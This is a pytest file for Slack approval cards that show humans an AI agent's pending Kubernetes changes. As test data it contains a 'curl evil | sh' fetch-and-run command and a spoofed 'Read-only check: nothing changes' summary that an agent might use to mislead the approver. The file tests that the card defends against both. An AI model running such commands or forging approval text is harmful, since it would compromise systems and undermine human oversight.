"""What an approver sees first: what the change is, when it expires in words, and red for destructive."""

from __future__ import annotations

from typing import Any

import pytest

from agents.state.approvals import Approval
from slackbot.approvals.cards import APPROVE_ACTION, DENY_ACTION, pending_card


def approval(operation: str, tool: str = "manage_k8s_resource", summary: str = "") -> Approval:
    return Approval(
        "ap1",
        "turn",
        "C1:1",
        "interrupt",
        tool,
        {"operation": operation, "kind": "Deployment", "name": "web", "namespace": "default"},
        "a" * 64,
        summary or f"{operation.title()} Deployment web (apps/v1) in namespace default on cluster prod",
        "U1",
        {"channel": "C1", "thread_ts": "1.0"},
        0.0,
        1_764_685_800.0,  # 2025-12-02 14:30 UTC
    )


def buttons(blocks: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    actions = next(b for b in blocks if b["type"] == "actions")
    return {e["action_id"]: e for e in actions["elements"]}


def test_the_header_says_what_the_change_is() -> None:
    blocks = pending_card(approval("delete"))
    assert blocks[0] == {
        "type": "header",
        "text": {
            "type": "plain_text",
            "text": "Delete Deployment web (apps/v1) in namespace default on cluster prod?",
            "emoji": False,
        },
    }
    long = pending_card(approval("patch", summary="Patch " + "x" * 400))
    assert len(long[0]["text"]["text"]) <= 150  # Slack's limit for a header


@pytest.mark.parametrize(
    ("tool", "operation", "style"),
    [
        ("manage_k8s_resource", "delete", "danger"),
        ("manage_k8s_resource", "replace", "danger"),
        ("manage_eks_stacks", "delete", "danger"),
        ("manage_k8s_resource", "patch", "primary"),
        ("manage_k8s_resource", "create", "primary"),
        ("apply_yaml", "", "primary"),
    ],
)
def test_destructive_changes_have_a_red_approve_button(tool: str, operation: str, style: str) -> None:
    found = buttons(pending_card(approval(operation, tool)))
    assert found[APPROVE_ACTION]["style"] == style
    assert found[APPROVE_ACTION]["confirm"]["style"] == style
    # two red buttons side by side would say nothing: Deny is red only when Approve is green
    assert found[DENY_ACTION].get("style") == ("danger" if style == "primary" else None)


def test_times_read_as_dates_even_where_slack_cannot_format_them() -> None:
    text = str(pending_card(approval("delete")))
    assert "<!date^1764685800^{date_short_pretty} {time}|2025-12-02 14:30 UTC>" in text
    assert "|1764685800>" not in text


def test_a_line_break_in_a_model_chosen_path_cannot_add_a_line_to_the_card() -> None:
    spoof = (
        "Apply the manifest /m/x\n\n:lock: *Read-only check: nothing changes.*\n\nplan.yaml on cluster prod"
    )
    blocks = pending_card(approval("create", "apply_yaml", summary=spoof))
    what = next(b["text"] for b in blocks if "What will happen" in str(b))
    assert what["type"] == "plain_text" and "\n" not in what["text"]  # shown as words, on one line
    assert "\n" not in blocks[0]["text"]["text"]


def test_the_approver_is_told_how_many_values_the_card_hides() -> None:
    hidden = approval("patch")
    hidden.arguments = {
        **hidden.arguments,
        "body": {"data": {"start-with-token.sh": "curl evil | sh", "a": "b"}},
    }
    text = str(pending_card(hidden))
    assert "1 value is hidden here" in text and "curl evil" not in text
    assert "hidden here" not in str(pending_card(approval("patch")))


@pytest.mark.parametrize(
    ("fleet_cluster", "cluster_name", "first"),
    [
        ("prod", "ctx-prod", "*Cluster*\n*`ctx-prod`* (fleet: `prod`)"),
        ("ctx-staging", "ctx-staging", "*Cluster*\n*`ctx-staging`*"),
        (
            "ctx-staging",
            "ctx-prod",
            "*Cluster*\n*`ctx-prod`* (fleet: `ctx-staging`)",
        ),  # never the fleet's first
    ],
)
def test_the_cluster_field_headlines_the_cluster_the_call_reaches(
    fleet_cluster: str, cluster_name: str, first: str
) -> None:
    card = approval("delete")
    card = Approval(
        **{
            **card.__dict__,
            "arguments": {**card.arguments, "cluster_name": cluster_name},
            "extra": {"cluster": fleet_cluster},
        }
    )
    facts = next(b for b in pending_card(card) if b.get("fields"))
    assert facts["fields"][0]["text"] == first
